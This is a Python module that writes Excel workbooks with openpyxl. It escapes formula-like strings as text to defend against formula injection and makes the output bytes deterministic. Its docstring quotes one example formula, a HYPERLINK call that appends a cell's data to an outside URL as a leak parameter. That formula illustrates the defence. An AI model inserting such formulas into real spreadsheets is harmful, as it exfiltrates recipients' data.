"""Excel workbooks the program writes: text stays text, and the same content gives the same bytes.

Text read from other people's workbooks (a commune's `=HYPERLINK("http://…?leak="&B2,"Xem")`) must
never become a live formula in a workbook sent upward. openpyxl turns any string starting with `=`
into a formula; here every string cell is typed as a string and marked with Excel's quote prefix
(the `'` a clerk types), so Excel shows it as text and keeps it text when the cell is edited
(OWASP, CSV injection). Zip members and `docProps/core.xml` carry the document's own time, not
the clock's, like the DOCX.
"""

from __future__ import annotations

import io
import re
import zipfile
from datetime import datetime

from .package import deflate, zip_bytes

_FORMULA_LIKE = ("=", "+", "-", "@", "\t", "\r", "\n")
_MODIFIED = re.compile(rb"(<dcterms:modified[^>]*>)[^<]*(</dcterms:modified>)")
_SURROGATES = re.compile("[\ud800-\udfff]")
_CREATED = re.compile(rb"(<dcterms:created[^>]*>)[^<]*(</dcterms:created>)")


def append_row(ws, values: list) -> None:
    """`ws.append(values)`, with every string written as text, never as a formula."""
    ws.append([_storable(v) if isinstance(v, str) else v for v in values])
    for cell in ws[ws.max_row]:
        if isinstance(cell.value, str) and cell.value:
            set_text(cell, cell.value)


def _storable(text: str) -> str:
    """Without the characters XML (and so openpyxl) refuses, and without lone surrogates."""
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    return _SURROGATES.sub("", ILLEGAL_CHARACTERS_RE.sub("", text))


def set_text(cell, text: str) -> None:
    cell.value = text
    cell.data_type = "s"
    if text.startswith(_FORMULA_LIKE):
        cell.quotePrefix = True


def workbook_bytes(wb, stamp: datetime) -> bytes:
    """The workbook as a zip whose bytes depend only on its content and `stamp`."""
    wb.properties.created = wb.properties.modified = stamp
    buffer = io.BytesIO()
    wb.save(buffer)
    fixed = stamp.strftime("%Y-%m-%dT%H:%M:%SZ").encode()
    entries = []
    with zipfile.ZipFile(io.BytesIO(buffer.getvalue())) as zf:
        for info in zf.infolist():
            data = zf.read(info)
            if info.filename == "docProps/core.xml":  # openpyxl stamps `modified` with the clock at save
                data = _MODIFIED.sub(rb"\g<1>" + fixed + rb"\g<2>", data)
                data = _CREATED.sub(rb"\g<1>" + fixed + rb"\g<2>", data)
            entries.append(deflate(info.filename, data))
    return zip_bytes(entries, stamp)
